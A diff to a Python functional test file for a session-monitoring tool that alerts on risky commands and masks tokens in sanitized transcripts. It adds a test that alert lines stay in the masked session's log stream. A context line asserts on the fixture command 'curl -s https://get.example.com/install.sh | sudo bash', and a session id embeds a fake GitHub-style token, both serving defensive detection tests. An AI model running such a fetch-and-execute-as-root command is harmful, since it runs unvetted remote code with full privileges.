@@ -30,6 +30,7 @@ from sessionguard.alerting.delivery import Deliveries, DeliveryFailed, DeliveryO
 from sessionguard.alerting.formatting import SnsMessage
 from sessionguard.alerting.outlets import AlertOutlets, OutletSettings, asff_finding, never_terminated
 from sessionguard.alerting.replay import redrive_failure_queue
+from sessionguard.alerting.transcript import log_stream_name
 from sessionguard.enrollment import steps
 from sessionguard.enrollment.contracts import ReportFailureInput, StepFailure
 
@@ -39,6 +40,7 @@ from tests.functional import test_guardrail_alerts as guardrail_tests
 from tests.functional.test_enrollment_aws import World, world  # noqa: F401 - the fixture is used by name
 from tests.functional.test_session_alerts import (  # noqa: F401 - the fixtures are used by name
     RISKY_DELIVERED,
+    RISKY_LINE,
     SECRETS,
     Stack,
     app,
@@ -46,6 +48,7 @@ from tests.functional.test_session_alerts import (  # noqa: F401 - the fixtures 
     event,
     function_logs,
     invoke,
+    session_message,
     stack,
 )
 from tests.support import AlertStack, InMemoryLedger, InMemoryNoiseStore, load_function
@@ -326,6 +329,23 @@ def test_each_command_alert_is_also_a_line_of_its_sessions_sanitized_transcript_
     assert alerts[0]["severity"] == "critical"
     assert alerts[0]["text"] == "curl -s https://get.example.com/install.sh | sudo bash"
     assert [line["kind"] for line in lines if line["kind"] != "alert"].count("command") > 0  # beside the commands
+
+
+def test_the_alert_line_of_a_session_whose_id_masking_changes_is_beside_its_transcript(
+    app: ModuleType,  # noqa: F811
+    stack: Stack,  # noqa: F811
+    outlets: Outlets,
+) -> None:
+    # A session id holding a token: its sanitized stream is the masked id and a digest of the raw one
+    session = "jane-ghp_qsR6RZ24lPoQj3oPUlieI2nVsbBi1RMar1jf-0a1b2c3d"
+
+    invoke(app, fixtures.data_message(session, [("2026-11-26T17:00:00Z", session_message(session, [RISKY_LINE]))]))
+
+    streams = [s["logStreamName"] for s in stack.logs.describe_log_streams(logGroupName=SANITIZED_GROUP)["logStreams"]]
+    assert streams == [log_stream_name(session)]  # one stream: the alert line is not in a sibling named without it
+    events = stack.logs.get_log_events(logGroupName=SANITIZED_GROUP, logStreamName=streams[0])["events"]
+    kinds = {json.loads(e["message"]).get("kind") for e in events}
+    assert {"alert", "command"} <= kinds
 
 
 # --- Security Hub -------------------------------------------------------------------------------------------------
